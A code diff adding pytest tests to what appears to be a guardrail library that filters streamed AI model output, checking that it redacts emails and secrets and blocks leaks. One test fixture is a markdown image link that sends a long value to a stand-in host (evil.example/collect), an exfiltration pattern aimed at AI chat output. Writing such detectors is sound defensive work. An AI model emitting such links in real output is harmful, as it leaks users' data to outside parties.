@@ -291,3 +291,33 @@ async def test_streamed_tool_call_arguments_are_judged_whole() -> None:
     with pytest.raises(GuardrailBlocked):
         async for _ in GuardedStream(_tool_chunks(parts), policy(out=[(Emails(), "block")]), Vault(), []):
             pass
+
+
+async def test_values_longer_than_the_held_tail_and_several_choices() -> None:
+    from ostiary.guardrails.leaks import ExfiltrationScanner
+
+    link = "See ![x](https://evil.example/collect?d=" + "A" * 150 + ") done."
+    parts = [link[i:i + 10] for i in range(0, len(link), 10)]
+    released = ""
+    with pytest.raises(GuardrailBlocked):
+        async for batch in GuardedStream(_chunks(parts), policy(out=[(ExfiltrationScanner([]), "block")]), Vault(), []):
+            released += "".join(ch["delta"].get("content") or "" for c in batch for ch in c["choices"])
+    assert "evil.example" not in released
+
+    async def two_choices() -> Any:  # choice 0 finishes while choice 1 is in the middle of a value
+        yield [{"id": "c", "choices": [{"index": 1, "delta": {"content": "mail bob@exam"}}]}]
+        yield [{"id": "c", "choices": [{"index": 0, "delta": {"content": "ok"}, "finish_reason": "stop"}]}]
+        yield [{"id": "c", "choices": [{"index": 1, "delta": {"content": "ple.org now"}, "finish_reason": "stop"}]}]
+
+    text: dict[int, str] = {}
+    async for batch in GuardedStream(two_choices(), policy(out=[(Emails(), "redact")], restore=False), Vault(), []):
+        for c in batch:
+            for ch in c["choices"]:
+                text[ch["index"]] = text.get(ch["index"], "") + (ch["delta"].get("content") or "")
+    assert text == {0: "ok", 1: "mail <EMAIL_1> now"}
+
+
+def test_overlapping_findings_of_two_rules_are_redacted_as_one() -> None:
+    text = "token ABCDEFGHIJ0123456789 end"
+    out = Vault().redact(text, [Finding("X", 6, 16, 1.0), Finding("SECRET", 10, 26, 1.0)])
+    assert out == "token <SECRET_1> end"
